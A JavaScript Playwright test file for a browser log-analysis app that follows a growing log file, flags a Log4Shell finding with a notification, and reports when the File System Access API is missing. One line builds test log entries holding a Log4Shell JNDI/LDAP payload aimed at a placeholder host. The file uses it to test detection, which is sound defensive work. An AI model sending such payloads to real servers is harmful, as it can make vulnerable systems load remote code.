// Following a growing file: lines appended after opening are read every few seconds and
// their findings appear, with a notification for a new critical one; a browser without
// the File System Access API is told so. The picker is replaced by a stand-in whose
// file grows when the test appends to it: Playwright cannot drive the native picker.
import assert from "node:assert/strict";
import path from "node:path";
import { after, before, test } from "node:test";
import { SCREENSHOTS, analysisEnds, openApp, startSite } from "./harness.mjs";

let site;
before(async () => {
  site = await startSite();
});
after(async () => {
  await site?.close();
});

const pad = (n) => String(n).padStart(2, "0");
const line = (client, minute, target) =>
  `${client} - - [01/Mar/2024:10:${pad(minute)}:00 +0000] "GET ${target} HTTP/1.1" 200 512 "-" "Mozilla/5.0"\n`;

test("appended lines are read as the file grows, and a new critical finding notifies", async () => {
  const app = await openApp(site);
  const { page } = app;
  try {
    let quiet = "";
    for (let i = 0; i < 60; i++) quiet += line(`10.0.0.${1 + (i % 5)}`, i % 60, "/index.html");
    await page.evaluate((initial) => {
      window.__followed = initial;
      window.__notified = [];
      window.showOpenFilePicker = async () => [
        { kind: "file", name: "growing.log", getFile: async () => new File([window.__followed], "growing.log") },
      ];
      window.Notification = class {
        constructor(title, options) {
          window.__notified.push(`${title}: ${options.body}`);
        }
        static requestPermission() {
          return Promise.resolve("granted");
        }
      };
    }, quiet);

    await page.locator('[data-testid="follow-open"]').click();
    await page.locator('[data-testid="analysis-status"]', { hasText: "growing.log (following)" }).waitFor();
    assert.equal((await analysisEnds(page)).state, "done");
    await page.locator('[data-testid="follow-status"]', { hasText: "Following growing.log" }).waitFor();
    assert.equal(await page.locator('[data-testid="finding-row"]').count(), 0);
    await page.locator('[data-testid="follow-notify"]').check();

    const attack = [0, 1, 2].map((i) => line("203.0.113.9", 10 + i, "/?x=${jndi:ldap://198.51.100.1/a}")).join("");
    await page.evaluate((more) => {
      window.__followed += more;
    }, attack);
    await page.locator('[data-testid="finding-row"][data-kind="log4shell"]').waitFor({ timeout: 15_000 });
    assert.equal(await page.locator('[data-testid="stat-lines"]').getAttribute("data-value"), "63");
    const notified = await page.evaluate(() => window.__notified);
    assert.deepEqual(notified, ["loglens: new critical finding: Log4Shell from 203.0.113.9"]);
    await page.locator('[data-testid="follow"]').screenshot({ path: path.join(SCREENSHOTS, "follow.png") });

    await page.locator('[data-testid="follow-stop"]').click();
    await page.locator('[data-testid="follow-open"]').waitFor();
    assert.deepEqual(app.problems, []);
  } finally {
    await app.close();
  }
});

test("a browser without the File System Access API is told so", async () => {
  const context = await site.browser.newContext();
  await context.addInitScript(() => {
    delete window.showOpenFilePicker;
  });
  const page = await context.newPage();
  try {
    await page.goto(site.baseUrl);
    const said = page.locator('[data-testid="follow-unsupported"]');
    await said.waitFor();
    assert.match(await said.textContent(), /needs the File System Access API/);
    assert.equal(await page.locator('[data-testid="follow-open"]').count(), 0);
  } finally {
    await context.close();
  }
});
